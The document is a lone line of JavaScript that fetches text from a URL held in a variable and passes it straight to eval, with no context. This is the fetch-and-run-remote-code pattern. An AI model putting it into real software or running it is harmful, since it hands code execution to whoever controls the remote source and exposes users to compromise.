eval(await (await fetch(url)).text())
